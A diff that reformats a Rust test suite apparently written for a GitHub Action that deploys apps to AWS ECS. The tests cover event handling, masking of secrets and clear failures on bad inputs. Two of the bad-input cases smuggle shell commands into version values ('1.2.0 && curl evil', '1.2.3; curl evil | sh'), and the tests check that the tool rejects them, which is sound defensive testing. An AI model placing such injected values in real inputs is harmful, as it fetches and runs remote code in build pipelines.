@@ -46,10 +46,7 @@ impl AwsTrap {
             ("AWS_ACCESS_KEY_ID", "testing".into()),
             ("AWS_SECRET_ACCESS_KEY", "testing".into()),
             ("AWS_REGION", "us-east-1".into()),
-            (
-                "AWS_ENDPOINT_URL",
-                format!("http://127.0.0.1:{}", self.port),
-            ),
+            ("AWS_ENDPOINT_URL", format!("http://127.0.0.1:{}", self.port)),
             ("AWS_MAX_ATTEMPTS", "1".into()),
         ]
         .into_iter()
@@ -100,10 +97,7 @@ fn assert_skips(out: &BinOutput, reason_part: &str) {
     assert_eq!(out.output("skipped"), Some("true"), "{out}");
     assert_eq!(out.output("status"), Some("skipped"), "{out}");
     let reason = out.output("skip-reason").unwrap_or_default();
-    assert!(
-        reason.contains(reason_part),
-        "skip-reason {reason:?} lacks {reason_part:?}\n{out}"
-    );
+    assert!(reason.contains(reason_part), "skip-reason {reason:?} lacks {reason_part:?}\n{out}");
 }
 
 #[test]
@@ -111,32 +105,19 @@ fn a_merged_release_pr_deploys_the_app_its_branch_names() {
     let trap = AwsTrap::start();
     let out = dry(&trap, ("pull_request", "pr-merged-release-web1.json"), &[]);
     assert_deploys(&out, "web1", "1.2.3");
-    assert_eq!(
-        out.output("image"),
-        Some(format!("{REGISTRY}/web1:v1.2.3").as_str())
-    );
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v1.2.3").as_str()));
     let out = dry(&trap, ("pull_request", "pr-merged-release-web2.json"), &[]);
     assert_deploys(&out, "web2", "2.0.1");
-    assert_eq!(
-        trap.hits(),
-        0,
-        "a dry run without a service reads nothing from AWS"
-    );
+    assert_eq!(trap.hits(), 0, "a dry run without a service reads nothing from AWS");
 }
 
 #[test]
 fn pull_requests_that_are_not_merged_releases_into_main_skip_with_a_reason() {
     let trap = AwsTrap::start();
     let rows = [
-        (
-            "pr-closed-unmerged.json",
-            "PR #2 was closed without merging",
-        ),
+        ("pr-closed-unmerged.json", "PR #2 was closed without merging"),
         ("pr-merged-other-base.json", "merged into develop, not main"),
-        (
-            "pr-merged-feature-branch.json",
-            "feature/login, which is not a release branch",
-        ),
+        ("pr-merged-feature-branch.json", "feature/login, which is not a release branch"),
         ("pr-labeled.json", "PR #2 was labeled, not merged"),
         ("pr-opened.json", "PR #2 was opened, not merged"),
         ("pr-merged-fork.json", "came from the fork mallory/shop"),
@@ -150,46 +131,20 @@ fn pull_requests_that_are_not_merged_releases_into_main_skip_with_a_reason() {
 #[test]
 fn a_release_of_another_app_skips_when_the_step_names_its_app() {
     let trap = AwsTrap::start();
-    let out = dry(
-        &trap,
-        ("pull_request", "pr-merged-release-web2.json"),
-        &[("INPUT_APP", "web1")],
-    );
-    assert_skips(
-        &out,
-        "PR #3 releases web2 (release/web2); this step deploys web1",
-    );
+    let out = dry(&trap, ("pull_request", "pr-merged-release-web2.json"), &[("INPUT_APP", "web1")]);
+    assert_skips(&out, "PR #3 releases web2 (release/web2); this step deploys web1");
 }
 
 #[test]
 fn workflow_dispatch_deploys_latest_or_an_explicit_existing_version() {
     let trap = AwsTrap::start();
-    let out = dry(
-        &trap,
-        ("workflow_dispatch", "workflow-dispatch-latest.json"),
-        &[("INPUT_APP", "web1")],
-    );
+    let out = dry(&trap, ("workflow_dispatch", "workflow-dispatch-latest.json"), &[("INPUT_APP", "web1")]);
     assert_deploys(&out, "web1", "1.2.3");
-    let out = dry(
-        &trap,
-        ("workflow_dispatch", "workflow-dispatch-version.json"),
-        &[("INPUT_APP", "web1")],
-    );
+    let out = dry(&trap, ("workflow_dispatch", "workflow-dispatch-version.json"), &[("INPUT_APP", "web1")]);
     assert_deploys(&out, "web1", "1.2.0");
-    assert_eq!(
-        out.output("image"),
-        Some(format!("{REGISTRY}/web1:v1.2.0").as_str())
-    );
-    assert!(
-        out.stdout
-            .contains("none: the existing tag v1.2.0 is deployed"),
-        "{out}"
-    );
-    let out = dry(
-        &trap,
-        ("workflow_dispatch", "workflow-dispatch-app-web2.json"),
-        &[],
-    );
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v1.2.0").as_str()));
+    assert!(out.stdout.contains("none: the existing tag v1.2.0 is deployed"), "{out}");
+    let out = dry(&trap, ("workflow_dispatch", "workflow-dispatch-app-web2.json"), &[]);
     assert_deploys(&out, "web2", "2.0.1");
     // The `version` input overrides the event's own input.
     let out = dry(
@@ -203,32 +158,17 @@ fn workflow_dispatch_deploys_latest_or_an_explicit_existing_version() {
 #[test]
 fn a_release_tag_push_deploys_the_tag_version_and_a_mismatch_names_both() {
     let trap = AwsTrap::start();
-    let out = dry(
-        &trap,
-        ("push", "push-tag-v1.2.3.json"),
-        &[("INPUT_APP", "web1")],
-    );
+    let out = dry(&trap, ("push", "push-tag-v1.2.3.json"), &[("INPUT_APP", "web1")]);
     assert_deploys(&out, "web1", "1.2.3");
-    let out = dry(
-        &trap,
-        ("push", "push-tag-v9.9.9.json"),
-        &[("INPUT_APP", "web1")],
-    );
+    let out = dry(&trap, ("push", "push-tag-v9.9.9.json"), &[("INPUT_APP", "web1")]);
     out.assert_code(1);
     assert!(
-        out.stdout
-            .contains("tag v9.9.9 says version 9.9.9, but apps/web1/package.json says 1.2.3"),
+        out.stdout.contains("tag v9.9.9 says version 9.9.9, but apps/web1/package.json says 1.2.3"),
         "{out}"
     );
     assert_eq!(out.output("status"), Some("failed"));
-    assert_skips(
-        &dry(&trap, ("push", "push-tag-not-release.json"), &[]),
-        "not a release tag",
-    );
-    assert_skips(
-        &dry(&trap, ("push", "push-tag-deleted.json"), &[]),
-        "was deleted",
-    );
+    assert_skips(&dry(&trap, ("push", "push-tag-not-release.json"), &[]), "not a release tag");
+    assert_skips(&dry(&trap, ("push", "push-tag-deleted.json"), &[]), "was deleted");
     assert_eq!(trap.hits(), 0);
 }
 
@@ -236,11 +176,7 @@ fn a_release_tag_push_deploys_the_tag_version_and_a_mismatch_names_both() {
 fn a_branch_push_deploys_only_when_deploy_on_includes_push() {
     let trap = AwsTrap::start();
     assert_skips(
-        &dry(
-            &trap,
-            ("push", "push-branch-main.json"),
-            &[("INPUT_APP", "web1")],
-        ),
+        &dry(&trap, ("push", "push-branch-main.json"), &[("INPUT_APP", "web1")]),
         "deploy only with deploy-on: push",
     );
     let out = dry(
@@ -254,10 +190,7 @@ fn a_branch_push_deploys_only_when_deploy_on_includes_push() {
 #[test]
 fn other_events_skip_cleanly() {
     let trap = AwsTrap::start();
-    assert_skips(
-        &dry(&trap, ("issues", "issues-opened.json"), &[]),
-        "event issues does not deploy",
-    );
+    assert_skips(&dry(&trap, ("issues", "issues-opened.json"), &[]), "event issues does not deploy");
 }
 
 #[test]
@@ -296,19 +229,11 @@ fn the_dry_run_of_the_monorepo_example_prints_the_plan_and_the_task_definition_d
 #[test]
 fn the_job_summary_and_outputs_are_written_for_a_dry_run() {
     let trap = AwsTrap::start();
-    let out = dry(
-        &trap,
-        ("pull_request", "pr-merged-release-web1.json"),
-        &[("INPUT_CONFIG", ".github/ecs-deploy.yml")],
-    );
+    let out = dry(&trap, ("pull_request", "pr-merged-release-web1.json"), &[("INPUT_CONFIG", ".github/ecs-deploy.yml")]);
     out.assert_success();
-    assert!(
-        out.summary.contains("ECS deploy (dry run): succeeded"),
-        "{out}"
-    );
+    assert!(out.summary.contains("ECS deploy (dry run): succeeded"), "{out}");
     assert!(out.summary.contains("| web1 | 1.2.3 |"), "{out}");
-    let results: serde_json::Value =
-        serde_json::from_str(out.output("results").unwrap_or("null")).expect("results is JSON");
+    let results: serde_json::Value = serde_json::from_str(out.output("results").unwrap_or("null")).expect("results is JSON");
     assert_eq!(results[0]["app"], "web1");
     assert_eq!(results[0]["image"], format!("{REGISTRY}/web1:v1.2.3"));
 }
@@ -320,21 +245,14 @@ fn secrets_are_masked_before_anything_else_is_printed() {
     let out = dry(
         &trap,
         ("pull_request", "pr-merged-release-web1.json"),
-        &[
-            ("INPUT_SLACK-WEBHOOK-URL", secret),
-            ("INPUT_GITHUB-TOKEN", "ghp_testtoken"),
-        ],
+        &[("INPUT_SLACK-WEBHOOK-URL", secret), ("INPUT_GITHUB-TOKEN", "ghp_testtoken")],
     );
     out.assert_success();
     let first = out.stdout.lines().next().unwrap_or_default();
     assert!(first.starts_with("::add-mask::"), "{out}");
     assert!(out.stdout.contains(&format!("::add-mask::{secret}")));
     assert!(out.stdout.contains("::add-mask::ghp_testtoken"));
-    let unmasked = out
-        .stdout
-        .lines()
-        .filter(|l| !l.starts_with("::add-mask::"))
-        .any(|l| l.contains("SECRET123") || l.contains("ghp_testtoken"));
+    let unmasked = out.stdout.lines().filter(|l| !l.starts_with("::add-mask::")).any(|l| l.contains("SECRET123") || l.contains("ghp_testtoken"));
     assert!(!unmasked && !out.stderr.contains("SECRET123"), "{out}");
 }
 
@@ -346,16 +264,10 @@ fn loose_versions_deploy_with_version_format_loose() {
     let out = dry(
         &trap,
         ("pull_request", "pr-merged-release-web1.json"),
-        &[
-            ("INPUT_PACKAGE-JSON", pkg),
-            ("INPUT_VERSION-FORMAT", "loose"),
-        ],
+        &[("INPUT_PACKAGE-JSON", pkg), ("INPUT_VERSION-FORMAT", "loose")],
     );
     assert_deploys(&out, "web1", "v2026.11.21");
-    assert_eq!(
-        out.output("image"),
-        Some(format!("{REGISTRY}/web1:v2026.11.21").as_str())
-    );
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v2026.11.21").as_str()));
 }
 
 #[test]
@@ -368,10 +280,7 @@ fn build_metadata_is_mapped_to_a_valid_tag_and_said() {
         &[("INPUT_PACKAGE-JSON", pkg.to_str().expect("utf-8 path"))],
     );
     assert_deploys(&out, "web1", "1.2.3+build.5");
-    assert_eq!(
-        out.output("image"),
-        Some(format!("{REGISTRY}/web1:v1.2.3_build.5").as_str())
-    );
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v1.2.3_build.5").as_str()));
     assert!(out.stdout.contains("'+' is not allowed"), "{out}");
 }
 
@@ -392,12 +301,7 @@ fn bad(env: &[(&'static str, &str)], expect: &'static str) -> Bad {
     }
 }
 
-fn bad_event(
-    name: &'static str,
-    file: &str,
-    env: &[(&'static str, &str)],
-    expect: &'static str,
-) -> Bad {
+fn bad_event(name: &'static str, file: &str, env: &[(&'static str, &str)], expect: &'static str) -> Bad {
     Bad {
         event: Some((name, file.to_string())),
         ..bad(env, expect)
@@ -419,253 +323,60 @@ fn bad_inputs_fail_with_a_clear_message_exit_1_and_no_aws_request() {
     let wrong = wrong_shape.to_string_lossy().into_owned();
 
     let cases: Vec<Bad> = vec![
-        bad(
-            &[("INPUT_DEPLOYMENT", "bluegreen")],
-            "accepted values: auto, rolling, codedeploy, ecs-blue-green",
-        ),
-        bad(
-            &[("INPUT_VERSION-FORMAT", "calver")],
-            "input `version-format` has the value \"calver\"",
-        ),
-        bad(
-            &[("INPUT_CACHE", "s3")],
-            "input `cache` has the value \"s3\"",
-        ),
-        bad(
-            &[("INPUT_DEPLOY-ON", "merge")],
-            "input `deploy-on` has the value \"merge\"",
-        ),
-        bad(
-            &[("INPUT_WAIT-FOR-MINUTES", "soon")],
-            "whole number of minutes",
-        ),
-        bad(
-            &[("INPUT_WAIT-FOR-MINUTES", "0")],
-            "whole number of minutes",
-        ),
-        bad(
-            &[("INPUT_TAG-LATEST", "yes")],
-            "input `tag-latest` has the value \"yes\"",
-        ),
-        bad(
-            &[("INPUT_ROLLBACK-ON-FAILURE", "on")],
-            "input `rollback-on-failure`",
-        ),
-        bad(
-            &[("INPUT_BUILD-ARGS", "NODE_ENV")],
-            "input `build-args` has the value \"line 1\"",
-        ),
-        bad(
-            &[("INPUT_ENVIRONMENT-VARIABLES", "1BAD=x")],
-            "keys use letters",
-        ),
+        bad(&[("INPUT_DEPLOYMENT", "bluegreen")], "accepted values: auto, rolling, codedeploy, ecs-blue-green"),
+        bad(&[("INPUT_VERSION-FORMAT", "calver")], "input `version-format` has the value \"calver\""),
+        bad(&[("INPUT_CACHE", "s3")], "input `cache` has the value \"s3\""),
+        bad(&[("INPUT_DEPLOY-ON", "merge")], "input `deploy-on` has the value \"merge\""),
+        bad(&[("INPUT_WAIT-FOR-MINUTES", "soon")], "whole number of minutes"),
+        bad(&[("INPUT_WAIT-FOR-MINUTES", "0")], "whole number of minutes"),
+        bad(&[("INPUT_TAG-LATEST", "yes")], "input `tag-latest` has the value \"yes\""),
+        bad(&[("INPUT_ROLLBACK-ON-FAILURE", "on")], "input `rollback-on-failure`"),
+        bad(&[("INPUT_BUILD-ARGS", "NODE_ENV")], "input `build-args` has the value \"line 1\""),
+        bad(&[("INPUT_ENVIRONMENT-VARIABLES", "1BAD=x")], "keys use letters"),
         bad(&[("INPUT_PLATFORM", "amd64")], "use os/arch"),
         bad(&[("INPUT_TAG-PREFIX", "v/")], "input `tag-prefix`"),
-        bad(
-            &[("INPUT_REGISTRY-USERNAME", "bob")],
-            "registry-username and registry-password go together",
-        ),
-        bad(
-            &[("INPUT_SLACK-BOT-TOKEN", "xoxb-1")],
-            "input `slack-channel` is required",
-        ),
-        bad(
-            &[("INPUT_SLACK-WEBHOOK-URL", "hooks.slack.com/x")],
-            "input `slack-webhook-url`",
-        ),
-        bad(
-            &[("INPUT_APP", "web 1")],
-            "input `app` has the value \"web 1\"",
-        ),
+        bad(&[("INPUT_REGISTRY-USERNAME", "bob")], "registry-username and registry-password go together"),
+        bad(&[("INPUT_SLACK-BOT-TOKEN", "xoxb-1")], "input `slack-channel` is required"),
+        bad(&[("INPUT_SLACK-WEBHOOK-URL", "hooks.slack.com/x")], "input `slack-webhook-url`"),
+        bad(&[("INPUT_APP", "web 1")], "input `app` has the value \"web 1\""),
         bad(&[("INPUT_CLUSTER", "my cluster")], "input `cluster`"),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                ("INPUT_RUN-TASK-COMMAND", "[\"migrate\""),
-            ],
-            "input `run-task-command`",
-        ),
-        bad(
-            &[("INPUT_IMAGE", "repo:1"), ("INPUT_REBUILD", "true")],
-            "has nothing to build",
-        ),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_RUN-TASK-COMMAND", "[\"migrate\"")], "input `run-task-command`"),
+        bad(&[("INPUT_IMAGE", "repo:1"), ("INPUT_REBUILD", "true")], "has nothing to build"),
         bad(&[("INPUT_APP", "web1,web2")], "several apps need `config`"),
         bad(&[("GITHUB_SHA", "not-a-sha")], "GITHUB_SHA"),
-        Bad {
-            event: None,
-            ..bad(&[], "set GITHUB_EVENT_NAME")
-        },
-        bad_event(
-            "pull_request",
-            "does-not-exist.json",
-            &[],
-            "cannot read the GitHub event payload",
-        ),
-        Bad {
-            event: Some(("pull_request", broken)),
-            ..bad(&[], "the pull_request event payload")
-        },
-        Bad {
-            event: Some(("pull_request", wrong)),
-            ..bad(&[], "missing field `pull_request`")
-        },
-        bad_event(
-            "pull_request",
-            "pr-merged-bad-app-name.json",
-            &[],
-            "is not a valid app name",
-        ),
-        bad_event(
-            "workflow_dispatch",
-            "workflow-dispatch-bad-version.json",
-            &[("INPUT_APP", "web1")],
-            "\"1.2.0 && curl evil\" (from the requested version) is not valid",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/no-version.json"))],
-            "has no \"version\" field",
-        ),
-        bad(
-            &[(
-                "INPUT_PACKAGE-JSON",
-                &fx("package-json/version-number.json"),
-            )],
-            "\"version\" that is not a string (1.2)",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/version-null.json"))],
-            "\"version\" that is not a string (null)",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/invalid.json"))],
-            "is not valid JSON",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/empty-file.json"))],
-            "is not valid JSON",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/not-object.json"))],
-            "is not a JSON object",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/v-prefixed.json"))],
-            "without the leading v",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/empty-version.json"))],
-            "it is empty",
-        ),
-        bad(
-            &[(
-                "INPUT_PACKAGE-JSON",
-                &fx("package-json/shell-injection.json"),
-            )],
-            "\"1.2.3; curl evil | sh\"",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/two-part.json"))],
-            "not semver",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", &fx("package-json/loose.json"))],
-            "not semver",
-        ),
-        bad(
-            &[("INPUT_PACKAGE-JSON", "apps/nope/package.json")],
-            "cannot read package.json",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                (
-                    "INPUT_TASK-DEFINITION",
-                    &fx("task-definitions/not-json.json"),
-                ),
-            ],
-            "is not valid JSON",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                (
-                    "INPUT_TASK-DEFINITION",
-                    &fx("task-definitions/no-containers.json"),
-                ),
-            ],
-            "empty \"containerDefinitions\"",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                (
-                    "INPUT_TASK-DEFINITION",
-                    &fx("task-definitions/no-family.json"),
-                ),
-            ],
-            "has no \"family\"",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                ("INPUT_TASK-DEFINITION", "deploy/web1-task-definition.json"),
-                ("INPUT_CONTAINER-NAME", "api"),
-            ],
-            "no container named \"api\"",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web2"),
-                ("INPUT_TASK-DEFINITION", "deploy/web2-task-definition.json"),
-            ],
-            "several containers (web2, log-router)",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                ("INPUT_TASK-DEFINITION", "deploy/missing.json"),
-            ],
-            "cannot read the task definition file",
-        ),
-        bad(
-            &[
-                ("INPUT_SERVICE", "web1"),
-                ("INPUT_CODEDEPLOY-APPSPEC", &fx("appspec-broken.yml")),
-            ],
-            "AppSpec",
-        ),
-        bad(
-            &[("INPUT_CONFIG", &fx("config-unknown-key.yml"))],
-            "apps.web1.servce is not a known key",
-        ),
-        bad(
-            &[
-                ("INPUT_CONFIG", ".github/ecs-deploy.yml"),
-                ("INPUT_APP", "web9"),
-            ],
-            "has no app \"web9\"",
-        ),
-        bad(
-            &[("INPUT_CONFIG", ".github/missing.yml")],
-            "cannot read the config file",
-        ),
-        bad(
-            &[("INPUT_DOCKERFILE", "apps/web1/Dockerfile.missing")],
-            "cannot read the Dockerfile",
-        ),
-        bad(
-            &[("INPUT_CONTEXT", "../..")],
-            "must be inside the workspace",
-        ),
-        Bad {
-            args: vec!["--bogus"],
-            ..bad(&[], "--bogus")
-        },
+        Bad { event: None, ..bad(&[], "set GITHUB_EVENT_NAME") },
+        bad_event("pull_request", "does-not-exist.json", &[], "cannot read the GitHub event payload"),
+        Bad { event: Some(("pull_request", broken)), ..bad(&[], "the pull_request event payload") },
+        Bad { event: Some(("pull_request", wrong)), ..bad(&[], "missing field `pull_request`") },
+        bad_event("pull_request", "pr-merged-bad-app-name.json", &[], "is not a valid app name"),
+        bad_event("workflow_dispatch", "workflow-dispatch-bad-version.json", &[("INPUT_APP", "web1")], "\"1.2.0 && curl evil\" (from the requested version) is not valid"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/no-version.json"))], "has no \"version\" field"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/version-number.json"))], "\"version\" that is not a string (1.2)"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/version-null.json"))], "\"version\" that is not a string (null)"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/invalid.json"))], "is not valid JSON"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/empty-file.json"))], "is not valid JSON"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/not-object.json"))], "is not a JSON object"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/v-prefixed.json"))], "without the leading v"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/empty-version.json"))], "it is empty"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/shell-injection.json"))], "\"1.2.3; curl evil | sh\""),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/two-part.json"))], "not semver"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/loose.json"))], "not semver"),
+        bad(&[("INPUT_PACKAGE-JSON", "apps/nope/package.json")], "cannot read package.json"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", &fx("task-definitions/not-json.json"))], "is not valid JSON"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", &fx("task-definitions/no-containers.json"))], "empty \"containerDefinitions\""),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", &fx("task-definitions/no-family.json"))], "has no \"family\""),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", "deploy/web1-task-definition.json"), ("INPUT_CONTAINER-NAME", "api")], "no container named \"api\""),
+        bad(&[("INPUT_SERVICE", "web2"), ("INPUT_TASK-DEFINITION", "deploy/web2-task-definition.json")], "several containers (web2, log-router)"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", "deploy/missing.json")], "cannot read the task definition file"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_CODEDEPLOY-APPSPEC", &fx("appspec-broken.yml"))], "AppSpec"),
+        bad(&[("INPUT_CONFIG", &fx("config-unknown-key.yml"))], "apps.web1.servce is not a known key"),
+        bad(&[("INPUT_CONFIG", ".github/ecs-deploy.yml"), ("INPUT_APP", "web9")], "has no app \"web9\""),
+        bad(&[("INPUT_CONFIG", ".github/missing.yml")], "cannot read the config file"),
+        bad(&[("INPUT_DOCKERFILE", "apps/web1/Dockerfile.missing")], "cannot read the Dockerfile"),
+        bad(&[("INPUT_CONTEXT", "../..")], "must be inside the workspace"),
+        Bad { args: vec!["--bogus"], ..bad(&[], "--bogus") },
     ];
-    assert!(
-        cases.len() >= 30,
-        "the issue asks for at least 30 distinct bad inputs"
-    );
+    assert!(cases.len() >= 30, "the issue asks for at least 30 distinct bad inputs");
     let mut failures = Vec::new();
     for case in &cases {
         let trap = AwsTrap::start();
@@ -683,27 +394,18 @@ fn bad_inputs_fail_with_a_clear_message_exit_1_and_no_aws_request() {
             } else {
                 fixture(Path::new("events").join(file))
             };
-            r = r
-                .env("GITHUB_EVENT_NAME", *name)
-                .env("GITHUB_EVENT_PATH", path);
+            r = r.env("GITHUB_EVENT_NAME", *name).env("GITHUB_EVENT_PATH", path);
         }
         for (k, v) in env {
             r = r.env(k, v);
         }
         let out = r.run();
-        let error_lines: Vec<&str> = out
-            .stdout
-            .lines()
-            .filter(|l| l.starts_with("::error"))
-            .collect();
+        let error_lines: Vec<&str> = out.stdout.lines().filter(|l| l.starts_with("::error")).collect();
         let problems = [
             (out.code != Some(1), "exit code is not 1"),
             (out.stderr.contains("panicked"), "panicked"),
             (error_lines.len() != 1, "not exactly one ::error line"),
-            (
-                !out.stdout.contains(case.expect) && !out.stderr.contains(case.expect),
-                "message does not name the problem",
-            ),
+            (!out.stdout.contains(case.expect) && !out.stderr.contains(case.expect), "message does not name the problem"),
             (trap.hits() != 0, "the AWS endpoint was contacted"),
         ];
         for (bad, what) in problems {
@@ -712,10 +414,5 @@ fn bad_inputs_fail_with_a_clear_message_exit_1_and_no_aws_request() {
             }
         }
     }
-    assert!(
-        failures.is_empty(),
-        "{} problems:\n{}",
-        failures.len(),
-        failures.join("\n-----\n")
-    );
+    assert!(failures.is_empty(), "{} problems:\n{}", failures.len(), failures.join("\n-----\n"));
 }
